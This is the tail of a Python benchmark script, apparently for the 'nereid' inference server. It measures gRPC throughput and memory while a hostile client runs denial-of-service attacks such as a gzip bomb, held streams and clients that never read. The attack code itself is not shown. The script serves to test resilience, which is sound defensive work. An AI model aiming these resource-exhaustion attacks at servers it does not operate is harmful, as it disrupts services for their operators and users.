            each = [v for v in row["kept_each"] if v == v]  # type: ignore[attr-defined]
            ratio_axes.plot([x] * len(each), each, "k.", markersize=4)
            if not row["up"]:
                ratio_axes.plot([x], [0.03], "rx", markersize=10)
            rss_axes.annotate(f"{peak:,.0f}" + ("\n(cap)" if row["capped"] else ""), (x, peak),
                              textcoords="offset points", xytext=(0, 2), ha="center", fontsize=7)
            rss_axes.plot([x - width / 2, x + width / 2], [float(row["rss_before_mb"])] * 2, "k-",  # type: ignore[arg-type]
                          linewidth=1)
    ratio_axes.axhline(1.0, color="grey", linewidth=0.8, linestyle="--")
    ratio_axes.set_ylabel("attacked / quiet throughput")
    ratio_axes.set_title("identity model over gRPC, perf_analyzer c=16, while one hostile client attacks")
    ratio_axes.set_ylim(0, max(1.2, ratio_axes.get_ylim()[1]))
    ratio_axes.grid(True, axis="y", alpha=0.3)
    ratio_axes.legend(title="--grpc-server", fontsize=8, loc="upper right")
    rss_axes.set_yscale("log")
    rss_axes.set_ylabel("server peak RSS, MB")
    rss_axes.set_ylim(30, max(20_000, rss_axes.get_ylim()[1]))
    rss_axes.grid(True, axis="y", alpha=0.3)
    rss_axes.set_xticks(range(len(attacks)))
    rss_axes.set_xticklabels([a.replace("_", "\n") for a in attacks], fontsize=8)
    figure.tight_layout()
    figure.savefig(path, dpi=120)
    bench.log(f"plot written to {path}")


# ---------------------------------------------------------------------------------------
# main


def parse_args(argv: list[str] | None) -> argparse.Namespace:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None,
                                formatter_class=argparse.ArgumentDefaultsHelpFormatter)
    p.add_argument("--repeats", type=int, default=2, help="quiet/attacked pairs per attack and engine")
    p.add_argument("--attack", action="append", default=[], choices=list(ATTACKS),
                   help="run only this attack (repeatable)")
    p.add_argument("--engine", action="append", default=[], choices=ENGINES, help="only this engine (repeatable)")
    p.add_argument("--concurrency", type=int, default=16)
    p.add_argument("--measurement-interval", type=int, default=1500, help="perf_analyzer -p, ms")
    p.add_argument("--max-trials", type=int, default=3,
                   help="perf_analyzer --max-trials (any stability is accepted: three windows, always)")
    p.add_argument("--settle", type=float, default=1.0, help="seconds between an attack's start and the measurement")
    p.add_argument("--attack-limit", type=float, default=150.0, help="longest an attack runs, seconds")
    p.add_argument("--bomb-mib", type=int, default=1024, help="what the gzip bomb inflates to, MiB")
    p.add_argument("--held-connections", type=int, default=150)
    p.add_argument("--held-streams", type=int, default=16, help="streams per held connection")
    p.add_argument("--held-mib", type=int, default=3, help="MiB each held stream sends of its declared 64 MiB")
    p.add_argument("--rss-cap-mb", type=int, default=3072,
                   help="held_streams and never_reads stop sending while the server's RSS is past this "
                        "(a shared machine)")
    p.add_argument("--restart-over-mb", type=int, default=1024,
                   help="restart a server whose RSS is still past this after an attack, so that the next "
                        "attack starts from a fresh one")
    p.add_argument("--never-read-connections", type=int, default=4, help="ModelStreamInfer clients that never read")
    p.add_argument("--nereid-arg", action="append", default=[], help="extra `nereid serve` argument (both engines)")
    p.add_argument("--nereid-cmd", default=None, help="command that runs nereid (as bench_identity's --nereid-cmd)")
    p.add_argument("--perf-analyzer", default=str(bench.PERF_ANALYZER))
    p.add_argument("--csv", default=None, help="write every pair here")
    p.add_argument("--plot", default=None, help="draw the attacked/quiet ratios here (PNG, needs matplotlib)")
    p.add_argument("--keep", action="store_true", help="keep the work directory (server logs, perf_analyzer logs)")
    p.add_argument("--from-csv", default=None,
                   help="measure nothing: print the table and draw --plot from this earlier --csv")
    args = p.parse_args(argv)
    if args.repeats < 1:
        p.error("--repeats must be at least 1")
    args.attacks = args.attack or list(ATTACKS)
    args.engines = args.engine or list(ENGINES)
    return args


def main(argv: list[str] | None = None) -> int:
    args = parse_args(argv)
    if args.from_csv:
        earlier = read_csv(Path(args.from_csv))
        attacks = [a for a in ATTACKS if any(p.attack == a for p in earlier)]
        engines = [e for e in ENGINES if any(p.engine == e for p in earlier)]
        table = rows_of(earlier, attacks, engines)
        print_table(table)
        if args.plot:
            plot(Path(args.plot), table, attacks, engines)
        return 0
    pa_args = bench.parse_args([
        "--concurrency", str(args.concurrency), "--protocol", "grpc",
        "--measurement-interval", str(args.measurement_interval),
        # any stability: under attack three windows may differ tenfold, and that is the figure
        "--stability-percentage", "100000", "--max-trials", str(args.max_trials), "--retries", "0",
        "--perf-analyzer", args.perf_analyzer,
    ])
    pa_args.nereid_arg = args.nereid_arg
    pa_args.nereid_cmd = args.nereid_cmd
    if not Path(pa_args.perf_analyzer).exists():
        bench.log(f"{pa_args.perf_analyzer} not found; install with `make perf-analyzer`")
        return 2
    if "gzip_bomb" in args.attacks:
        began = time.monotonic()
        size = len(GzipBomb.bomb(args.bomb_mib << 20))
        bench.log(f"gzip bomb: {size / 1e6:.2f} MB inflating to {args.bomb_mib} MiB ({time.monotonic() - began:.1f} s)")
    work = Path(tempfile.mkdtemp(prefix="nereid-hostile-grpc-"))
    servers = {engine: Engine(work, pa_args, engine) for engine in args.engines}
    pairs: list[Pair] = []
    status = 0
    began = time.monotonic()
    def start(server: Engine) -> None:
        """Start, then one perf_analyzer run that is not recorded: a fresh grpcio server's
        first run was seen at a third of its later ones."""
        server.start(pa_args.start_timeout)
        warm = bench.run_level(pa_args, server, args.concurrency, 99_999, work)
        bench.log(f"{server.name} warmed up: {warm.throughput:,.0f} infer/s" if warm.ok
                  else f"{server.name} warm-up run failed: {warm.error}")

    try:
        for server in servers.values():
            start(server)
        for repeat in range(args.repeats):
            order = args.engines if repeat % 2 == 0 else args.engines[::-1]
            for name in args.attacks:
                for engine in order:
                    server = servers[engine]
                    pair = measure_pair(name, server, pa_args, args, repeat, work)
                    pairs.append(pair)
                    if not pair.up or not pair.quiet.ok or pair.attacked is None or not pair.attacked.ok:
                        status = 1
                    if server.proc is None or server.proc.poll() is not None or not pair.up:
                        bench.log(f"{engine} is down after {name}; its log ends with:\n{server.log_tail()}\n"
                                  f"restarting it")
                        server.stop()
                        start(server)
                    elif pair.rss_after_mb > args.restart_over_mb:
                        bench.log(f"{engine} still holds {pair.rss_after_mb:,.0f} MB after {name}: restarting it")
                        server.stop()
                        start(server)
    except KeyboardInterrupt:
        bench.log("interrupted")
        status = 130
    finally:
        for server in servers.values():
            server.stop()
    bench.log(f"{len(pairs)} pairs in {time.monotonic() - began:.0f} s; work dir {work}")
    rows = rows_of(pairs, args.attacks, args.engines)
    if rows:
        loads = [run.load1 for p in pairs for run in (p.quiet, p.attacked) if run is not None]
        print(f"perf_analyzer -i grpc, identity, c={args.concurrency}, {args.measurement_interval} ms windows; "
              f"medians of {args.repeats} interleaved pair(s); kept = attacked / quiet (median over median); "
              f"load average (1 min) at the runs' start: median {median(loads):.1f}, max {max(loads):.1f} "
              f"on {os.cpu_count()} CPUs")
        print_table(rows)
    if args.csv and pairs:
        write_csv(Path(args.csv), pairs)
    if args.plot and rows:
        plot(Path(args.plot), rows, args.attacks, args.engines)
    if args.keep or status not in (0, 130):
        bench.log(f"work directory kept: {work}")
    else:
        shutil.rmtree(work, ignore_errors=True)
    return status


if __name__ == "__main__":
    sys.exit(main())
